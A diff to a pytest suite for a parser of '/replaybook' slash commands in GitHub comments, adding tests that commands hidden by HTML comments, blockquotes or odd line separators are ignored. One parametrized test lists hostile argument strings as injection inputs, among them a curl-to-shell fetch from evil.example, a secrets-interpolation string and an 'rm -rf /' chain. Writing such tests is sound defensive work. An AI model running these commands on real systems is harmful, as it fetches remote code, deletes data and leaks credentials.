@@ -54,6 +54,38 @@ def test_quoted_code_or_mid_line_commands_do_not_count(body):
     assert parse(body) == []
 
 
+# Bodies as people write them: each hides its command from the rendered comment, so it never runs.
+HIDDEN_BY_RENDERING = [
+    # An HTML comment opened mid-line hides the rest of that line and every line until it closes.
+    "Looks good to me! <!-- reviewer notes:\n/replaybook retire rule-0003 nobody will see this\n-->\nThanks.",
+    "LGTM<!--\n/replaybook replay --trials 50",
+    "see the log <!-- start\n\n/replaybook retest\n\nstill hidden -->",
+    "> quoted <!-- x\n/replaybook replay\n-->",
+    # A blockquote's lazy continuation: the unquoted line right after a quoted one renders inside the quote.
+    "> @alice wrote: we should replay this\n/replaybook replay --agent codex\n\nI disagree.",
+    "> first line\n> second line\n/replaybook retire rule-0001 quoted",
+    "> > nested\n/replaybook retest",
+    # Only \n, \r\n and \r end a line in markdown: these stay on the quoted or prose line.
+    "> quoted\u2028/replaybook retest",
+    "please run\x85/replaybook replay",
+    "> quoted\x1c/replaybook explain",
+]
+
+
+@pytest.mark.parametrize("body", HIDDEN_BY_RENDERING)
+def test_what_github_does_not_render_as_a_command_runs_nothing(body):
+    assert parse(body) == []
+
+
+def test_a_command_after_a_closed_comment_or_a_quote_ended_by_a_blank_line_counts():
+    assert only("thanks <!-- note -->\n/replaybook retest") == Command("retest")
+    assert only("> we should replay\n\n/replaybook replay") == Command("replay")
+    assert only("/replaybook retire rule-0002 stale <!-- hidden --> ") == Command("retire", rule="rule-0002",
+                                                                              reason="stale")
+    assert only("/replaybook retire rule-0001 x <!-- replaybook:gate -->") == Command("retire", rule="rule-0001",
+                                                                                     reason="x")
+
+
 def test_an_unclosed_fence_hides_the_rest_of_the_comment():
     assert parse("```\n/replaybook replay\n") == []
 
@@ -97,7 +129,7 @@ def test_bad_arguments_are_a_typed_result_never_an_exception(line, why):
 
 
 @pytest.mark.parametrize("hostile", [
-    "$(curl evil.example | sh)", "`id`", "${{ secrets.ANTHROPIC_API_KEY }}", "; rm -rf / &&", "'\"\\", "<!-- replaybook:gate -->",
+    "$(curl evil.example | sh)", "`id`", "${{ secrets.ANTHROPIC_API_KEY }}", "; rm -rf / &&", "'\"\\", "replaybook:gate -->",
 ])
 def test_hostile_arguments_stay_data(hostile):
     retire = only(f"/replaybook retire rule-0001 {hostile}")
